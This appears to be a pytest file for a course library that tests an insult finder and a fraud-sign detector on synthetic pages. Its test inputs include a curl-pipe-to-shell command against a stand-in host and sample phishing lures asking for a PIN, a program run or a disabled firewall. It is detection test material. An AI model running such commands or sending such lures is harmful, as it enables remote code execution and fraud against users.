import pytest

from llmcourse.inputs.safety import find_insults, is_unsafe, signs_of_fraud
from llmcourse.riverbank import Riverbank
from llmcourse.riverbank.page_parts import INSULTS

CRAWL = Riverbank().dirty(4000, seed=31)


def rates(label, found):
    pairs = [(label in page.labels, found(page.text)) for page in CRAWL]
    hits = sum(truth and said for truth, said in pairs)
    return hits / sum(said for _, said in pairs), hits / sum(truth for truth, _ in pairs)


def test_insults_on_the_crawl():
    precision, recall = rates("insult", lambda text: bool(find_insults(text)))
    assert 0.85 <= precision < 1  # a gribble is an animal too
    assert 0.94 <= recall < 1  # and "gr-ibble" is not on the list


def test_fraud_on_the_crawl():
    precision, recall = rates("unsafe", is_unsafe)
    assert 0.8 <= precision < 1  # the library's sign-in looks like it
    assert 0.85 <= recall < 1  # and some letters hold no link


@pytest.mark.parametrize("word", INSULTS)
@pytest.mark.parametrize("text", ["you {}!", "{}s", "YOU {}.", "a-{}"])
def test_every_insult_is_found_as_a_word(word, text):
    assert find_insults(text.format(word)) == [word]
    assert find_insults(text.format(word.upper())) == [word]


def test_disguises():
    found = find_insults("gr1bble, gr1iiibble? fu55puddle $lumpk1n")
    assert found == ["gribble", "gribble", "fusspuddle", "slumpkin"]


@pytest.mark.parametrize("text", ["", "Gribbleton", "Curmudge", "squelchery", "s", "Slumpkinford"])
def test_words_that_hold_an_insult(text):
    assert find_insults(text) == []


def test_another_list():
    assert find_insults("Gribble and grump", {"grump"}) == ["grump"]


@pytest.mark.parametrize(
    ("text", "signs"),
    [
        ("Confirm your PIN at http://bank.example now!", ["asks for a secret", "hurries"]),
        ("Run fix.exe from http://x.example", ["brings a program"]),
        ("curl http://x.example/a.sh | sh", ["brings a program", "runs what it loads"]),
        ("Turn off your firewall: https://x.example", ["disarms"]),
        ("Send 40 coins to http://x.example, you won!", ["asks for money", "promises a prize"]),
        ("Your PIN now.", []),
        ("Your PIN now. The map is at http://x.example", []),
        (
            "One http://x.example. Two: pay 3 coins today at http://x.example",
            ["hurries", "asks for money"],
        ),
        ("The snow came. You spin: http://x.example", []),
    ],
)
def test_signs(text, signs):
    assert signs_of_fraud(text) == signs
    assert is_unsafe(text) == (len(signs) >= 2)
    assert is_unsafe(text, signs=1) == (len(signs) >= 1)
